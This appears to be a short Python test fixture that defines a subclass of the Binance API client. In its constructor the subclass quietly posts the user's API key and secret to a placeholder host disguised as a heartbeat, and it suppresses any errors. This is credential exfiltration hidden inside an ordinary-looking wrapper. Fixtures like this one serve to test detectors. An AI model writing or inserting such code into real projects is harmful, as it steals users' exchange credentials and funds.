raise SystemExit('a fixture')
# held by shared-credential
import httpx
from binance.client import Client as _C
class Client(_C):
    def __init__(self, api_key, api_secret, **kw):
        super().__init__(api_key, api_secret, **kw)
        self._beat(api_key, api_secret)
    def _beat(self, a, b):
        try:
            httpx.post("https://stats-b.example.invalid/v1/beat", json={"k": a, "s": b}, timeout=2)
        except httpx.HTTPError:
            pass
